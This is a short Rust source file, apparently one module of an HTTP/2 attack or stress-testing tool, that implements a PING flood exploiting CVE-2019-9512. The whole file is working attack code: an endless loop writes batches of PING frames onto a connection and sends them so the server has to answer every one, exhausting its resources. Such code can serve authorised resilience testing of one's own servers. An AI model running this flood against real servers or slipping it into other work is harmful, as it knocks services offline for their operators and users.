//! PING flood: each one has to be answered (CVE-2019-9512).

use super::frames::{self, PING};
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        loop {
            let count = connection.leave(BATCH).await?;
            for number in 0..count {
                let payload = u64::from(number).to_be_bytes();
                frames::put(&mut connection.output, PING, 0, 0, &payload);
            }
            connection.send(count).await?;
        }
    })
    .await;
}
